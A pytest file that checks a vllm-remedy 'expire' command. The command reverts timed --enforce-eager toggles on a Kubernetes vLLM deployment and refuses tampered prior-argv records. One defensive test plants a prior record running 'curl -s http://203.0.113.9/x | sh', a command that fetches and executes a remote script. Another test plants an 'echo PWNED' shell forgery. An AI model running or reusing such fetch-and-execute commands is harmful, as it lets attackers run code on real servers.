"""`vllm-remedy expire` after a simulated crash: a toggle written by a process that died is reverted from the
cluster's own record (exact prior argv), a toggle not yet due is left alone, and a second run changes nothing."""

from __future__ import annotations

import hashlib
import json
import re
import time
from pathlib import Path

import pytest

from fixtures import pyinfra_run
from fixtures.drift_world import GOOD_ARGS, HOST, UNIT, as_json, inventory, policy, set_args
from fixtures.pyinfra_run import Rehearsal
from vllm_remedy.kube.annotations import parse_rfc3339, rfc3339
from vllm_remedy.metrics import OVERRIDE_EXPIRY, REMEDIATIONS, parse_samples

rehearsal = pyinfra_run.rehearsal
EXPIRES, PRIOR = "vllm-remedy.io/enforce-eager-expires", "vllm-remedy.io/enforce-eager-prior"
DIGEST = "vllm-remedy.io/enforce-eager-digest"
PRIOR_JSON = json.dumps({"args": GOOD_ARGS, "command": ["vllm", "serve"], "container": "vllm"}, sort_keys=True,
                        separators=(",", ":"))


def dead_process_toggle(rehearsal: Rehearsal, offset: float) -> str:
    """What `deploys/enforce_eager.py` writes, written directly (the writer then 'dies'); expiry = now + offset."""
    expires = rfc3339(rehearsal.client().server_time() + offset)
    # with the digest annotation older versions wrote: neither needed nor trusted now, dropped with the toggle
    written = {"args": GOOD_ARGS, "command": ["vllm", "serve"], "container": "vllm",
               "image": container(rehearsal)["image"]}
    digest = json.dumps({"prior": sha256(json.loads(PRIOR_JSON)), "written": sha256(written)}, sort_keys=True,
                        separators=(",", ":"))
    set_args(rehearsal, [*GOOD_ARGS, "--enforce-eager"], notes={EXPIRES: expires, PRIOR: PRIOR_JSON, DIGEST: digest})
    return expires


def sha256(value: object) -> str:
    return "sha256:" + hashlib.sha256(json.dumps(value, sort_keys=True, separators=(",", ":")).encode()).hexdigest()


def container(rehearsal: Rehearsal) -> dict:
    return rehearsal.client().get_deployment("llm", "llama-8b")["spec"]["template"]["spec"]["containers"][0]


def expire_when_due(rehearsal: Rehearsal, tmp_path: Path, cli, expires: float) -> list[str]:
    """Run ``vllm-remedy expire`` once the toggle is due (cluster time); its "remove the flag only: written" lines."""
    client = rehearsal.client()
    while client.server_time() < expires:
        time.sleep(0.05)
    got = cli("expire", "-i", inventory(tmp_path, rehearsal.kubeconfig, policy(tmp_path)))
    assert got.returncode == 0, got.stderr
    return [line for line in got.stdout.splitlines()
            if "enforce-eager: remove --enforce-eager only" in line and ": written (" in line]


def test_expire_reverts_a_dead_process_toggle_to_the_exact_prior_argv(rehearsal: Rehearsal, tmp_path: Path,
                                                                      cli) -> None:
    expires = dead_process_toggle(rehearsal, -600)
    inv = inventory(tmp_path, rehearsal.kubeconfig, policy(tmp_path))
    drift = as_json(cli("drift", "-i", inv, "-o", "json"))["hosts"][0]
    assert drift["drifted"] == ["enforce-eager"]
    # the cluster runs 600x: on a loaded machine the drift run can start more than a cluster hour later
    assert re.fullmatch(rf"toggle enforce-eager expired at {expires} \(((\d+)h)?(\d+)m ago\): run `vllm-remedy "
                        r"expire` \(restores the prior argv\)", drift["checks"][4]["detail"])
    revert = next(op for op in drift["fix"]["operations"] if op["operation"] == "Revert expired temporary toggles")
    assert revert["changes"] is True and "-    - --enforce-eager" in revert["lines"]

    prom = tmp_path / "expire.prom"
    got = cli("expire", "-i", inv, "-o", "json", "--metrics-file", str(prom))
    assert got.returncode == 0, got.stderr
    doc = as_json(got)
    assert doc["apiVersion"] == "vllm-remedy.io/v1alpha1"
    assert (doc["kind"], doc["status"]) == ("ExpireReport", {"result": "Done", "exitCode": 0, "hosts": 1,
                                                               "reverted": 1, "errors": 0})
    host = doc["hosts"][0]
    assert (host["host"], host["status"], host["reverted"], host["remaining"]) == (HOST, "Reverted",
                                                                                   ["enforce-eager"], [])
    c = container(rehearsal)
    assert (c["command"], c["args"]) == (["vllm", "serve"], GOOD_ARGS)
    notes = rehearsal.client().get_deployment("llm", "llama-8b")["metadata"]["annotations"]
    assert EXPIRES not in notes and PRIOR not in notes and DIGEST not in notes
    assert notes["vllm-remedy.io/last-action"] == "expire"
    assert any("enforce-eager: restore the exact argv from before --enforce-eager" in line for line in host["lines"])
    assert {k: v for k, v in parse_samples(prom.read_text(), REMEDIATIONS).items()} == {("expire", "applied"): 1.0}

    again = cli("expire", "-i", inv)
    assert again.returncode == 0
    assert again.stdout.splitlines() == [f"{HOST}: no toggle past its expiry",
                                         "1 host(s): 0 reverted, 0 error(s) (exit 0)"]
    assert as_json(cli("drift", "-i", inv, "-o", "json"))["status"]["result"] == "NoDrift"


def test_expire_leaves_a_toggle_that_is_not_due(rehearsal: Rehearsal, tmp_path: Path, cli) -> None:
    # six cluster hours ahead (36 s of wall time at 600x): a loaded machine cannot make it due mid-test; the
    # policy allows toggles that long (an expiry beyond its max_duration is not ours and would be reverted)
    expires = dead_process_toggle(rehearsal, 6 * 3600)
    before = rehearsal.client().get_deployment("llm", "llama-8b")
    inv = inventory(tmp_path, rehearsal.kubeconfig, policy(tmp_path, UNIT + "enforce_eager: {max_duration: 7d}\n"))
    prom = tmp_path / "expire.prom"
    doc = as_json(cli("expire", "-i", inv, "-o", "json", "--metrics-file", str(prom)))
    assert doc["hosts"][0]["status"] == "Unchanged"
    assert doc["hosts"][0]["remaining"] == [{"name": "enforce-eager", "expires": expires}]
    after = rehearsal.client().get_deployment("llm", "llama-8b")
    assert (after["spec"]["template"], after["metadata"]["generation"]) == (before["spec"]["template"],
                                                                           before["metadata"]["generation"])
    assert parse_samples(prom.read_text(), OVERRIDE_EXPIRY) == {(HOST, "enforce-eager"): parse_rfc3339(expires)}
    drift = as_json(cli("drift", "-i", inv, "-o", "json"))["hosts"][0]
    assert drift["checks"][4] == {"check": "enforce-eager", "status": "pass",
                                  "detail": f"toggle enforce-eager on until {expires}"}


def test_permanent_eager_mode_is_drift_that_expire_does_not_touch(rehearsal: Rehearsal, tmp_path: Path, cli) -> None:
    set_args(rehearsal, [*GOOD_ARGS, "--enforce-eager"])
    inv = inventory(tmp_path, rehearsal.kubeconfig, policy(tmp_path))
    drift = as_json(cli("drift", "-i", inv, "-o", "json"))["hosts"][0]
    assert drift["checks"][4]["status"] == "drift"
    assert drift["checks"][4]["detail"].startswith("--enforce-eager is on with no timed toggle recorded")
    assert as_json(cli("expire", "-i", inv, "-o", "json"))["hosts"][0]["status"] == "Unchanged"
    assert container(rehearsal)["args"] == [*GOOD_ARGS, "--enforce-eager"]


def test_expire_never_restores_a_tampered_prior_argv(rehearsal: Rehearsal, tmp_path: Path, cli) -> None:
    """The toggle the eager deploy wrote, its prior record then swapped for a shell that fetches and runs a script
    before exec'ing vLLM with the same flags and model: expire takes only the flag off and says why."""
    from fixtures.budget_world import EAGER, LOCAL, rolled_out

    got = rehearsal.pyinfra(LOCAL, EAGER, "-y", "--data", "eager_ttl=1m")
    assert got.returncode == 0, got.stderr
    expires = parse_rfc3339(rolled_out(rehearsal)["metadata"]["annotations"][EXPIRES])
    evil = {"container": "vllm", "command": ["sh", "-c"],
            "args": ["curl -s http://203.0.113.9/x | sh; exec vllm serve " + " ".join(GOOD_ARGS) + " --enforce-eager"]}

    def tamper(dep: dict) -> None:
        dep["metadata"]["annotations"][PRIOR] = json.dumps(evil, sort_keys=True, separators=(",", ":"))

    rehearsal.change(tamper)
    said = expire_when_due(rehearsal, tmp_path, cli, expires)
    assert len(said) == 1 and "outside its vLLM flags" in said[0], said
    c = container(rehearsal)
    assert (c["command"], c["args"]) == (["vllm", "serve"], GOOD_ARGS)
    notes = rehearsal.client().get_deployment("llm", "llama-8b")["metadata"]["annotations"]
    assert not [k for k in notes if k.startswith("vllm-remedy.io/enforce-eager-")]


def test_expire_never_restores_a_forged_prior_even_with_its_digest_recomputed(rehearsal: Rehearsal, tmp_path: Path,
                                                                             cli) -> None:
    """Anyone who may edit annotations may also recompute an unkeyed digest: the review's forged prior
    (``sh -c "echo PWNED; vllm serve ... --max-model-len 131072"``) with a matching digest. The revert is a write
    like any other: the prior differs from the running container outside the toggle's flag, so only the flag
    comes off, the line says why, and neither the shell nor the 128k context ever reaches the template."""
    from fixtures.budget_world import EAGER, LOCAL, rolled_out

    got = rehearsal.pyinfra(LOCAL, EAGER, "-y", "--data", "eager_ttl=1m")
    assert got.returncode == 0, got.stderr
    on = rolled_out(rehearsal)
    expires = parse_rfc3339(on["metadata"]["annotations"][EXPIRES])
    evil_args = [a if a != "16384" else "131072" for a in GOOD_ARGS]
    evil = {"container": "vllm", "command": ["sh", "-c"], "args": ["echo PWNED; vllm serve " + " ".join(evil_args)]}
    written = {"args": GOOD_ARGS, "command": ["vllm", "serve"], "container": "vllm",
               "image": on["spec"]["template"]["spec"]["containers"][0]["image"]}

    def forge(dep: dict) -> None:
        dep["metadata"]["annotations"][PRIOR] = json.dumps(evil, sort_keys=True, separators=(",", ":"))
        dep["metadata"]["annotations"][DIGEST] = json.dumps({"prior": sha256(evil), "written": sha256(written)},
                                                            sort_keys=True, separators=(",", ":"))

    rehearsal.change(forge)
    said = expire_when_due(rehearsal, tmp_path, cli, expires)
    assert len(said) == 1 and "differs from the running container" in said[0], said
    c = container(rehearsal)
    assert (c["command"], c["args"]) == (["vllm", "serve"], GOOD_ARGS)
    notes = rehearsal.client().get_deployment("llm", "llama-8b")["metadata"]["annotations"]
    assert not [k for k in notes if k.startswith("vllm-remedy.io/enforce-eager-")]


def test_expire_keeps_a_toggle_the_memory_model_says_the_server_needs(rehearsal: Rehearsal, tmp_path: Path,
                                                                      cli) -> None:
    """A revert is a write like any other: at --gpu-memory-utilization 0.98 the CUDA graphs eager mode saves put the
    predicted peak over the L40S (44.50 of 44.42 GiB), so the expired toggle stays, the host fails with that one
    line (exit 1), nothing is written, and the expiry stays in the metrics for the alert."""
    args = [a if a != "0.90" else "0.98" for a in GOOD_ARGS]
    prior = json.dumps({"args": args, "command": ["vllm", "serve"], "container": "vllm"})
    expires = rfc3339(rehearsal.client().server_time() - 600)
    set_args(rehearsal, [*args, "--enforce-eager"], notes={EXPIRES: expires, PRIOR: prior})
    # the controller records the new revision's number in an annotation once it has seen the edit: "nothing written"
    # compares with the Deployment after that (a clean-clone run read it before and saw revision 14 become 15)
    deadline = time.monotonic() + 20
    while True:
        before = rehearsal.client().get_deployment("llm", "llama-8b")
        if (before.get("status") or {}).get("observedGeneration") == before["metadata"]["generation"]:
            break
        assert time.monotonic() < deadline, "the controller never saw the eager revision"
        time.sleep(0.05)
    inv = inventory(tmp_path, rehearsal.kubeconfig, policy(tmp_path))
    prom = tmp_path / "expire.prom"
    got = cli("expire", "-i", inv, "-o", "json", "--metrics-file", str(prom))
    assert got.returncode == 1, got.stderr
    host = as_json(got)["hosts"][0]
    assert host["status"] == "Error" and host["error"].startswith(
        f"kept expired toggle enforce-eager (expired {expires}) on deployment llm/llama-8b: without it predicted "
        "cudagraph_capture_oom on NVIDIA-L40S (prediction on NVIDIA-L40S: cudagraph_capture_oom"), host
    after = rehearsal.client().get_deployment("llm", "llama-8b")
    assert (after["spec"], after["metadata"]["annotations"]) == (before["spec"], before["metadata"]["annotations"])
    assert parse_samples(prom.read_text(), OVERRIDE_EXPIRY) == {(HOST, "enforce-eager"): parse_rfc3339(expires)}


def test_host_data_naming_a_missing_file_is_bad_input_exit_2(rehearsal: Rehearsal, tmp_path: Path, cli) -> None:
    """Bad input exits 2 (README), not 1 "a host failed": the inventory names a kubeconfig that is not there,
    or a policy file that is not there; a healthy host next to them changes nothing of it."""
    for data in ({"kubeconfig": str(tmp_path / "nope" / "kubeconfig")},
                 {"kubeconfig": str(rehearsal.kubeconfig), "policy": str(tmp_path / "missing-policy.yaml")}):
        inv = tmp_path / "inv.py"
        inv.write_text(f"hosts = ([{HOST!r}], {data!r})\n")
        got = cli("expire", "-i", str(inv), "-o", "json")
        assert got.returncode == 2, (data, got.stdout, got.stderr)
        doc = json.loads(got.stdout)
        assert doc["status"]["exitCode"] == 2 and doc["hosts"][0]["badInput"] is True, doc
        assert "no such file" in doc["hosts"][0]["error"] or "missing-policy" in doc["hosts"][0]["error"], doc


# `--enforce-eager false`: the flag takes no value (store_true / BooleanOptionalAction, engine/arg_utils.py@0.8.5,
# @0.11.0), so argparse leaves `false` over as a positional: that prior differs outside its flags
@pytest.mark.parametrize(("spelling", "reason"), [
    (["--enforce-eager", "false"], "it differs from the running container outside its vLLM flags"),
    (["--enforce-eager=0"], "the prior argv spells --enforce-eager itself (--enforce-eager=0)"),
    (["--enforce-eager", "--enforce-eager=false"],
     "the prior argv spells --enforce-eager itself (--enforce-eager; --enforce-eager=false)")])
def test_expire_never_restores_a_prior_that_spells_the_flag(rehearsal: Rehearsal, tmp_path: Path, cli,
                                                            spelling: list[str], reason: str) -> None:
    """The review's forged prior: the running argv plus an 'off' spelling of the flag. Restoring it would add
    `false` (vLLM rejects it: crash loop) while the record, `args show` and drift all said eager mode was off.
    Only the flag comes off, in one line saying why; the toggle record goes with it."""
    prior = json.dumps({"args": [*GOOD_ARGS, *spelling], "command": ["vllm", "serve"], "container": "vllm"},
                       sort_keys=True, separators=(",", ":"))
    expires = rfc3339(rehearsal.client().server_time() - 600)
    set_args(rehearsal, [*GOOD_ARGS, "--enforce-eager"], notes={EXPIRES: expires, PRIOR: prior})
    inv = inventory(tmp_path, rehearsal.kubeconfig, policy(tmp_path))
    got = cli("expire", "-i", inv)
    assert got.returncode == 0, got.stderr
    said = [line for line in got.stdout.splitlines()
            if f"enforce-eager: remove --enforce-eager only: {reason}" in line and ": written (" in line]
    assert len(said) == 1, got.stdout
    assert "restore the exact argv" not in got.stdout
    c = container(rehearsal)
    assert (c["command"], c["args"]) == (["vllm", "serve"], GOOD_ARGS)
    notes = rehearsal.client().get_deployment("llm", "llama-8b")["metadata"]["annotations"]
    assert not [k for k in notes if k.startswith("vllm-remedy.io/enforce-eager-")]


@pytest.mark.parametrize("expires", ["2099-01-01T00:00:00Z", "9999-12-31T23:59:59-23:59"])
def test_a_far_future_expiry_is_drift_and_expire_reverts_it(rehearsal: Rehearsal, tmp_path: Path, cli,
                                                            expires: str) -> None:
    """No toggle of a policy whose enforce_eager.max_duration is 2h can expire in 2099: the expiry is forged. Drift
    reports it (exit 1, why); expire treats it as expired and takes the flag off, saying why in one line."""
    set_args(rehearsal, [*GOOD_ARGS, "--enforce-eager"], notes={EXPIRES: expires, PRIOR: PRIOR_JSON})
    inv = inventory(tmp_path, rehearsal.kubeconfig, policy(tmp_path))
    got = cli("drift", "-i", inv, "-o", "json")
    assert got.returncode == 1, got.stderr
    host = as_json(got)["hosts"][0]
    assert host["drifted"] == ["enforce-eager"]
    assert host["checks"][4]["detail"].startswith(
        f"toggle enforce-eager expires at {expires}, more than 2h ahead (the policy's enforce_eager.max_duration): "
        "no toggle under this policy set it"), host["checks"][4]["detail"]

    got = cli("expire", "-i", inv)
    assert got.returncode == 0, got.stderr
    said = [line for line in got.stdout.splitlines() if "enforce-eager: restore the exact argv from before "
            f"--enforce-eager (expiry {expires} is more than 2h ahead" in line and ": written (" in line]
    assert len(said) == 1, got.stdout
    c = container(rehearsal)
    assert (c["command"], c["args"]) == (["vllm", "serve"], GOOD_ARGS)
    notes = rehearsal.client().get_deployment("llm", "llama-8b")["metadata"]["annotations"]
    assert not [k for k in notes if k.startswith("vllm-remedy.io/enforce-eager-")]


def test_a_malformed_expiry_is_drift_exit_1_said_once(rehearsal: Rehearsal, tmp_path: Path, cli) -> None:
    set_args(rehearsal, [*GOOD_ARGS, "--enforce-eager"], notes={EXPIRES: "tomorrow", PRIOR: PRIOR_JSON})
    inv = inventory(tmp_path, rehearsal.kubeconfig, policy(tmp_path))
    got = cli("drift", "-i", inv)
    assert got.returncode == 1, (got.stdout, got.stderr)
    out = got.stdout + got.stderr
    assert out.count("'tomorrow' is not an RFC 3339 timestamp") == 1, out
    host = as_json(cli("drift", "-i", inv, "-o", "json"))["hosts"][0]
    assert host["drifted"] == ["enforce-eager"] and host["error"] is None
    assert "'tomorrow' is not an RFC 3339 timestamp" in host["checks"][4]["detail"]
